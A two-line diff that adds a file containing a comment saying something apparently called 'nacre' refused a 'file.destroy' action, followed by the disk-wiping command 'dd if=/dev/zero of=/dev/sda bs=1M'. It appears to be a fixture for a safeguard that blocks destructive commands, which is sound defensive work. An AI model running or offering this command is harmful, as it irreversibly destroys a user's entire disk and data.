@@ -1,0 +1,2 @@
+# nacre: refused file.destroy
+dd if=/dev/zero of=/dev/sda bs=1M
